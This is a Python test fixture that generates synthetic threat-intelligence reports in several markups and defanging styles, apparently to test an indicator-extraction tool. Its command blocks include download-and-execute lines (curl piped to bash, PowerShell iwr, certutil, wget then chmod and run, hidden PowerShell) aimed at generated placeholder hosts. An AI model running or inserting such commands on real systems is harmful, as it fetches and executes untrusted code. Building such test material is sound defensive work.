"""Reports of vendors in Markdown, AsciiDoc, HTML and plain text from PDF.

All reports have the same parts: prose with indicators, names of code and files, reference links,
and a list of indicators. They differ in markup, defanging and layout.
"""

from __future__ import annotations

import html
from dataclasses import dataclass
from typing import TYPE_CHECKING

from tests.support.seed_documents.names import Facts

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.support.seed_documents.names import Document

# --- defanging -----------------------------------------------------------------------------------


def bracket_dots(text: str) -> str:
    return text.replace("http", "hxxp", 1).replace(".", "[.]")


def bracket_last_dot_of_host(text: str) -> str:
    scheme, separator, rest = text.rpartition("://")
    host, slash, path = rest.partition("/")
    before, dot, after = host.rpartition(".")
    host = f"{before}[{dot}]{after}" if dot else host
    return f"{scheme.replace('http', 'hXXp')}{separator}{host}{slash}{path}"


def parenthesize_dots(text: str) -> str:
    scheme, separator, rest = text.rpartition("://")
    host, slash, path = rest.partition("/")
    host = host.replace(".", "(.)")
    return f"{scheme.replace('http', 'hxxp')}{separator}{host}{slash}{path}"


def spell_dots(text: str) -> str:
    scheme, separator, rest = text.rpartition("://")
    host, slash, path = rest.partition("/")
    return f"{scheme}{separator.replace(':', '[:]')}{host.replace('.', '[dot]')}{slash}{path}"


def bracket_scheme(text: str) -> str:
    return bracket_last_dot_of_host(text).replace("hXXp", "hxxp").replace("://", "[://]")


def keep(text: str) -> str:
    return text


# --- markup --------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Markup:
    """How a report is written.

    Attributes:
        suffix: the suffix of the file.
        heading: renders a heading.
        code: renders an indicator inside a sentence.
        link: renders a title with a link.
        bullets: renders a list of texts.
        table: renders rows; the first one is the header.
        block: renders lines of code.
        page: renders the whole document.
        format_name: the value of ``--format`` that the documentation recommends.
    """

    suffix: str
    heading: Callable[[str], str]
    code: Callable[[str], str]
    link: Callable[[str, str], str]
    bullets: Callable[[list[str]], str]
    table: Callable[[list[list[str]]], str]
    block: Callable[[list[str]], str]
    page: Callable[[list[str]], str]
    format_name: str = "auto"


def _markdown_table(rows: list[list[str]]) -> str:
    lines = [f"| {' | '.join(row)} |" for row in rows]
    return "\n".join([lines[0], "|---" * len(rows[0]) + "|", *lines[1:]])


MARKDOWN = Markup(
    ".md",
    "## {}".format,
    "`{}`".format,
    "[{}]({})".format,
    lambda texts: "\n".join(f"- `{text}`" for text in texts),
    _markdown_table,
    lambda lines: "\n".join(["```", *lines, "```"]),
    lambda parts: "\n\n".join(["# Inside a long campaign", *parts]) + "\n",
)
ASCIIDOC = Markup(
    ".adoc",
    "== {}".format,
    "`+{}+`".format,
    lambda title, url: f"{url}[{title}]",
    lambda texts: "\n".join(f"* `{text}`" for text in texts),
    lambda rows: "\n".join(
        ["[options=header]", "|===", *("".join(f"|{cell}" for cell in row) for row in rows), "|==="]
    ),
    lambda lines: "\n".join(["----", *lines, "----"]),
    lambda parts: "\n\n".join(["= Inside a long campaign", ":toc:", *parts]) + "\n",
)


def _html_table(rows: list[list[str]]) -> str:
    body = "".join(
        f"<tr>{''.join(f'<td>{html.escape(cell)}</td>' for cell in row)}</tr>\n" for row in rows
    )
    return f'<table class="table table-striped">\n{body}</table>'


HTML = Markup(
    ".html",
    "<h2>{}</h2>".format,
    lambda text: f"<code>{html.escape(text)}</code>",
    lambda title, url: f'<a href="{html.escape(url)}" rel="noopener">{title}</a>',
    lambda texts: "\n".join(
        ["<ul>", *(f"<li>{html.escape(text)}</li>" for text in texts), "</ul>"]
    ),
    _html_table,
    lambda lines: f"<pre>{html.escape(chr(10).join(lines))}</pre>",
    lambda parts: (
        '<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>Inside a long'
        " campaign</title>\n<style>.col-md-6{width:50%}</style>\n"
        '<script>window.dataLayer.push({event:"gtm.js"});document.getElementById("x")</script>\n'
        "</head>\n<body>\n" + "\n".join(parts) + "\n</body>\n</html>\n"
    ),
    format_name="text",
)


def _pdf_table(rows: list[list[str]]) -> str:
    return "\n".join("   ".join(cell.ljust(20) for cell in row).rstrip() for row in rows)


PDF = Markup(
    ".txt",
    "{}\n".format,
    "\u201c{}\u201d".format,
    "{} ({})".format,
    lambda texts: "\n".join(f"\u2022 {text}" for text in texts),
    _pdf_table,
    lambda lines: "\n".join(f"    {line}" for line in lines),
    lambda parts: (
        "Inside a long campaign\nTLP:CLEAR\n\n"
        + "\n\n4\nNorthlight Labs \u2013 threat report\n\x0c\n".join(parts)
        + "\n"
    ),
    format_name="text",
)

# --- content -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Style:
    """How a vendor writes indicators: defanging, upper-case hashes, and the layout of the list."""

    defang: Callable[[str], str]
    layout: str  # bullets, table, block or typed
    upper: bool = False


STYLES = (
    Style(bracket_dots, "bullets"),
    Style(bracket_last_dot_of_host, "table"),
    Style(parenthesize_dots, "block"),
    Style(spell_dots, "typed"),
    Style(bracket_scheme, "table", upper=True),
    Style(keep, "block"),
)


class Report:
    """The content of one report."""

    def __init__(self, facts: Facts, markup: Markup, style: Style) -> None:
        self._facts = facts
        self._markup = markup
        self._style = style

    def render(self) -> str:
        parts = [*self._prose(), *self._sentences_with_punctuation(), *self._commands()]
        parts += [*self._names_of_code(), self._markup.heading("Indicators")]
        return self._markup.page([*parts, *self._indicator_list(), *self._references()])

    def _say(self, text: str) -> str:
        return self._markup.code(self._style.defang(text))

    def _hash(self, length: int) -> str:
        digits = self._facts.hash(length)
        return digits.upper() if self._style.upper else digits

    def _prose(self) -> Iterator[str]:
        facts, say, code = self._facts, self._say, self._markup.code
        yield (
            f"In March the group Quiet Ferryman sent letters from {say(facts.domain())}. The "
            f"attachment {code(self._hash(64))} loads a script from {say(facts.url())}, and then "
            f"connects to {say(facts.address())} or {say(facts.domain())}."
        )
        yield (
            f"Two further servers, {say(facts.domain())} and {say(facts.domain())}, share the "
            f"address {say(facts.address())}; the loader (MD5 {code(self._hash(32))}, SHA-1 "
            f"{code(self._hash(40))}) posts to {say(facts.url())}, {say(facts.url())} and "
            f"{say(facts.url())}."
        )
        yield (
            f"We first saw it in the wild; see {self._markup.link('our notes', facts.link())} and "
            f"the earlier {self._markup.link('post', facts.link())} for CVE-2024-31337."
        )

    def _sentences_with_punctuation(self) -> Iterator[str]:
        """Yield indicators without markup around them."""
        facts, defang = self._facts, self._style.defang
        first, second, third = (defang(facts.domain()) for _ in range(3))
        address, url, other = defang(facts.address()), defang(facts.url()), defang(facts.url())
        yield f"The domains are {first}, {second}; and {third}. The server is {address}:8080."
        yield f"It downloads from {url}, then (see {other}) it waits."
        yield f"Was it {defang(facts.domain())}? No: \u201c{defang(facts.domain())}\u201d\u2026"

    def _commands(self) -> Iterator[str]:
        """Yield commands, a rule and log lines, in which vendors often do not defang."""
        facts = self._facts
        yield self._markup.block(
            [
                f"powershell -c \"iwr '{facts.url()}' -OutFile C:\\Users\\Public\\x.ps1\"",
                f"curl -s {facts.url()} | bash",
                f'certutil.exe -urlcache -split -f "{facts.url()}" %TEMP%\\a.exe',
                f"wget {facts.url()}; chmod 777 x; ./x",
            ]
        )
        yield self._markup.block(
            [
                "rule copperwick_loader {",
                f'  meta: hash = "{facts.hash(64)}"',
                f'  strings: $a = "{facts.domain()}" ascii $b = {{ 8B FF 55 8B EC }}',
                "  condition: uint16(0) == 0x5A4D and any of them }",
            ]
        )
        yield self._markup.block(
            [
                f"10:00:01 {facts.address()} GET /a.php?id=7 HTTP/1.1 200 Mozilla/5.0",
                f"Host: {facts.domain()}",
                f"dns query A {facts.domain()} IN",
            ]
        )

    def _names_of_code(self) -> Iterator[str]:
        """Yield text without indicators."""
        digits, code = self._facts.digits, self._markup.code
        yield (
            f"The dropper {code('invoice_2024.docx.exe')} writes {code('payload.ps1')} and "
            f"{code('msedge_update.dll')}, calls {code('System.Net.WebClient')} and "
            f"{code('WScript.Shell')}, and runs on Windows 10.0.19045 with Node.js 2.3.1."
        )
        yield (
            f"Its imphash is {code(digits(32))}, the JA3 fingerprint is {code(digits(32))}, and "
            f"the certificate has the thumbprint {code(digits(40))}. The mutex is "
            f"{code('Global{8761ABBD-7F85-42EE-B272-A76179687C63}')} (T1059.001, T1071)."
        )
        yield self._markup.block(
            [
                "import os.path, urllib.request",
                "data = [x.strip() for x in sys.stdin.readlines()]",
                "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "cmd.exe /c powershell.exe -nop -w hidden -f C:\\Users\\Public\\run.ps1",
            ]
        )

    def _indicator_list(self) -> Iterator[str]:
        facts, defang = self._facts, self._style.defang
        rows = [
            *([self._hash(64), "SHA-256 of the loader"] for _ in range(6)),
            *([self._hash(40), "SHA-1 of a document"] for _ in range(3)),
            *([self._hash(32), "MD5 of a script"] for _ in range(3)),
            *([defang(facts.domain()), "command and control"] for _ in range(6)),
            *([defang(facts.address()), "server"] for _ in range(4)),
            *([defang(facts.url()), "download"] for _ in range(5)),
        ]
        if self._style.layout == "table":
            yield self._markup.table([["Indicator", "Meaning"], *rows])
        elif self._style.layout == "bullets":
            yield self._markup.bullets([text for text, _ in rows])
        elif self._style.layout == "block":
            yield self._markup.block([text for text, _ in rows])
        else:
            yield self._markup.bullets([f"{meaning}: {text}" for text, meaning in rows])

    def _references(self) -> Iterator[str]:
        yield self._markup.heading("References")
        links = [self._markup.link(f"Report {n}", self._facts.link()) for n in (1, 2)]
        yield "\n\n".join(links)
        yield "Questions? Write to press@northlight-labs.com."


def reports() -> Iterator[Document]:
    """Yield one report per markup and style."""
    for number, markup in enumerate((MARKDOWN, ASCIIDOC, HTML, PDF)):
        for position, style in enumerate(STYLES):
            facts = Facts(1_000 + 100 * number + position)
            content = Report(facts, markup, style).render()
            name = f"report-{style.defang.__name__}-{style.layout}{markup.suffix}"
            yield facts.document(name, content, markup.format_name)
